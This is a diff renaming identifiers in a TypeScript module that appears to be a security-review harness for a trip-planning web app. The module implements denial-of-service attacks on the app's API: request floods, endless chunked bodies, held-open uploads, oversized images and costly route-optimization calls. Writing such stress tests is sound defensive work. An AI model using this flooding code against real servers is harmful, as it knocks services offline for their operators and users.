@@ -2,7 +2,7 @@ import { randomUUID } from 'node:crypto';
 import { Agent, request } from 'node:http';
 import { connect, type Socket } from 'node:net';
 import sharp from 'sharp';
-import { type Ends, tripBetween } from './country.ts';
+import { createTripRequest, type Ends } from './country.ts';
 
 /** A malicious client: the server's URL, headers sent with every request, query texts, and accounts. */
 export type Attacker = {
@@ -12,23 +12,23 @@ export type Attacker = {
   readonly accounts: readonly { readonly headers: Record<string, string>; readonly reviewId: string }[];
 };
 
-type Sent = { readonly path: string; readonly body?: unknown; readonly headers?: Record<string, string> };
+type AttackRequest = { readonly path: string; readonly body?: unknown; readonly headers?: Record<string, string> };
 
 type Stop = () => void;
 
-const AGAIN_MS = 5;
+const REPEAT_MS = 5;
 const CONNECTIONS = 8;
 const BODIES = 60;
 const BODY_PATHS = ['/api/review-photos', '/api/user/favorites/import', '/api/search', '/healthz'];
 const CHUNK = `10000\r\n${'x'.repeat(65_536)}\r\n`;
 const PIXELS = 3_990;
 
-/** From one corner of the country to another, via the others. */
-const ACROSS: Ends = {
+/** From one corner of the country to another. */
+const CROSS_COUNTRY: Ends = {
   start: { lat: 34.05, lng: -118.24, label: 'Los Angeles, CA' },
   end: { lat: 40.75, lng: -73.99, label: 'New York, NY' },
 };
-const CORNERS = [
+const WAYPOINTS = [
   { lat: 47.61, lng: -122.33, label: 'Seattle, WA' },
   { lat: 32.78, lng: -96.8, label: 'Dallas, TX' },
   { lat: 44.98, lng: -93.27, label: 'Minneapolis, MN' },
@@ -36,14 +36,14 @@ const CORNERS = [
 ];
 
 /** Sends requests endlessly over several connections; each sends its next request after the previous response. */
-function floodOf(url: string, connections: number, next: (connection: number) => Sent): Stop {
+function startFlood(url: string, connections: number, next: (connection: number) => AttackRequest): Stop {
   const agent = new Agent({ keepAlive: true, maxSockets: connections });
   let isOver = false;
   const send = (connection: number) => {
     if (isOver) return;
     const { path, body, headers } = next(connection);
     const text = body === undefined ? undefined : JSON.stringify(body);
-    const again = () => setTimeout(() => send(connection), AGAIN_MS);
+    const sendAgain = () => setTimeout(() => send(connection), REPEAT_MS);
     const outgoing = request(
       `${url}${path}`,
       {
@@ -51,9 +51,9 @@ function floodOf(url: string, connections: number, next: (connection: number) =>
         agent,
         headers: { 'content-type': 'application/json', ...headers },
       },
-      (response) => response.resume().once('close', again),
+      (response) => response.resume().once('close', sendAgain),
     );
-    outgoing.once('error', again);
+    outgoing.once('error', sendAgain);
     outgoing.end(text);
   };
   for (let connection = 0; connection < connections; connection += 1) send(connection);
@@ -64,12 +64,12 @@ function floodOf(url: string, connections: number, next: (connection: number) =>
 }
 
 /** Sends an endless body as fast as the server reads it; reconnects when disconnected. */
-function endlessBody({ url: server, from }: Attacker, path: string): Stop {
+function sendEndlessBody({ url: server, from }: Attacker, path: string): Stop {
   const url = new URL(server);
   const head = Object.entries(from).map(([name, value]) => `${name}: ${value}\r\n`);
   let socket: Socket | null = null;
   let isOver = false;
-  const begin = () => {
+  const openConnection = () => {
     if (isOver) return;
     const own = connect(Number(url.port), url.hostname);
     socket = own;
@@ -77,14 +77,14 @@ function endlessBody({ url: server, from }: Attacker, path: string): Stop {
       while (!own.destroyed && own.write(CHUNK));
     };
     own.on('drain', writeUntilFull).on('error', () => undefined);
-    own.once('close', () => setTimeout(begin, AGAIN_MS));
+    own.once('close', () => setTimeout(openConnection, REPEAT_MS));
     own.resume().once('connect', () => {
       own.write(`POST ${path} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\n`);
       own.write(`${head.join('')}Transfer-Encoding: chunked\r\n\r\na\r\n{"query":"\r\n`);
       writeUntilFull();
     });
   };
-  begin();
+  openConnection();
   return () => {
     isOver = true;
     socket?.destroy();
@@ -92,31 +92,31 @@ function endlessBody({ url: server, from }: Attacker, path: string): Stop {
 }
 
 /** Announces a large body but never sends it; reconnects when disconnected. */
-function heldUpload({ url, from }: Attacker, headers: Record<string, string>): Stop {
+function holdUpload({ url, from }: Attacker, headers: Record<string, string>): Stop {
   const { hostname, port, host } = new URL(url);
   let socket: Socket | null = null;
   let isOver = false;
-  const begin = () => {
+  const openConnection = () => {
     if (isOver) return;
     const all = { host, 'content-type': 'application/json', 'content-length': '900000', ...headers, ...from };
     const head = Object.entries(all).map(([name, value]) => `${name}: ${value}`);
     socket = connect(Number(port), hostname);
-    socket.on('error', () => undefined).once('close', () => setTimeout(begin, AGAIN_MS));
+    socket.on('error', () => undefined).once('close', () => setTimeout(openConnection, REPEAT_MS));
     socket.resume().write(`POST /api/review-photos HTTP/1.1\r\n${head.join('\r\n')}\r\n\r\n`);
   };
-  begin();
+  openConnection();
   return () => {
     isOver = true;
     socket?.destroy();
   };
 }
 
-async function heavyPicture(): Promise<string> {
+async function createHeavyPicture(): Promise<string> {
   const create = { width: PIXELS, height: PIXELS, channels: 3, background: 'teal' } as const;
   return (await sharp({ create }).avif({ effort: 0 }).toBuffer()).toString('base64');
 }
 
-const together = (stops: readonly Stop[]) => () => {
+const combineStops = (stops: readonly Stop[]) => () => {
   for (const stop of stops) stop();
 };
 
@@ -125,40 +125,41 @@ let sentCount = 0;
 /** Attacks from a security review, each run by one client. */
 export const ATTACKS: Readonly<Record<string, (attacker: Attacker) => Promise<Stop> | Stop>> = {
   words: ({ url, from, texts }) =>
-    floodOf(url, CONNECTIONS, () => {
+    startFlood(url, CONNECTIONS, () => {
       sentCount += 1;
       return { path: '/api/search', body: { query: texts[sentCount % texts.length] }, headers: from };
     }),
   tiles: ({ url, from, texts }) =>
-    floodOf(url, CONNECTIONS, () => {
+    startFlood(url, CONNECTIONS, () => {
       sentCount += 1;
       const filters = { text: `${texts[sentCount % texts.length]?.slice(0, 190)}${sentCount}` };
       return { path: `/api/map/6/15/24.mvt?filters=${encodeURIComponent(JSON.stringify(filters))}`, headers: from };
     }),
   bodies: (attacker) =>
-    together(
-      Array.from({ length: BODIES }, (_, at) => endlessBody(attacker, BODY_PATHS[at % BODY_PATHS.length] ?? '')),
+    combineStops(
+      Array.from({ length: BODIES }, (_, at) => sendEndlessBody(attacker, BODY_PATHS[at % BODY_PATHS.length] ?? '')),
     ),
-  uploads: (attacker) => together(attacker.accounts.slice(0, 14).map(({ headers }) => heldUpload(attacker, headers))),
-  description: ({ url, from }) => floodOf(url, 10, () => ({ path: '/api/openapi.json', headers: from })),
+  uploads: (attacker) =>
+    combineStops(attacker.accounts.slice(0, 14).map(({ headers }) => holdUpload(attacker, headers))),
+  description: ({ url, from }) => startFlood(url, 10, () => ({ path: '/api/openapi.json', headers: from })),
   photos: async ({ url, from, accounts }) => {
-    const image = await heavyPicture();
-    return floodOf(url, 16, (connection) => {
+    const image = await createHeavyPicture();
+    return startFlood(url, 16, (connection) => {
       const { headers = {}, reviewId = '' } = accounts[connection % accounts.length] ?? {};
       const body = { id: randomUUID(), reviewId, image };
       return { path: '/api/review-photos', body, headers: { ...headers, ...from } };
     });
   },
   plans: ({ url, from, accounts }) =>
-    floodOf(url, accounts.length, (connection) => ({
+    startFlood(url, accounts.length, (connection) => ({
       path: '/api/routes/premium/optimize',
-      body: tripBetween(ACROSS),
+      body: createTripRequest(CROSS_COUNTRY),
       headers: { ...accounts[connection]?.headers, ...from },
     })),
   'plans.one': ({ url, from, accounts }) =>
-    floodOf(url, 30, () => ({
+    startFlood(url, 30, () => ({
       path: '/api/routes/premium/optimize',
-      body: { ...tripBetween(ACROSS), waypoints: CORNERS, nights: { afterDriveMin: 480 } },
+      body: { ...createTripRequest(CROSS_COUNTRY), waypoints: WAYPOINTS, nights: { afterDriveMin: 480 } },
       headers: { ...accounts[0]?.headers, ...from },
     })),
 };
